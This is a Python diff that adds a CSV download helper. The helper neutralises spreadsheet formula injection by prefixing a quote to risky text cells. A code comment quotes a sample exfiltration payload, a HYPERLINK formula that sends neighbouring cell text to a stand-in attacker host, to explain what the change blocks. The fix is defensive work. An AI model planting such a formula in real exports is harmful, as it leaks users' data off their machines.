@@ -333,6 +333,20 @@ def admin_unlocked(key: str, action: str) -> bool:
     return bool(given) and hmac.compare_digest(given.encode(), admin_key.encode())
 
 
+# A spreadsheet runs a cell that starts with one of these as a formula: a document titled
+# =HYPERLINK("https://evil.example/?"&A2, "open") in a downloaded CSV sends its neighbours' text away on a click.
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def csv_text(rows: Sequence[dict[str, Any]]) -> str:
+    """Rows as CSV text for a download; a text cell a spreadsheet would run as a formula starts with a quote."""
+    import pandas as pd
+
+    safe = [{k: "'" + v if isinstance(v, str) and v.startswith(_FORMULA_START) else v for k, v in row.items()}
+            for row in rows]
+    return pd.DataFrame(safe).to_csv(index=False)
+
+
 # ----- markdown from stored text -----
 # Titles, paths, URLs and answers come from documents, crawled pages and other API callers. st.markdown
 # renders no HTML, but it does render markdown: an image loads a remote URL as soon as the page shows
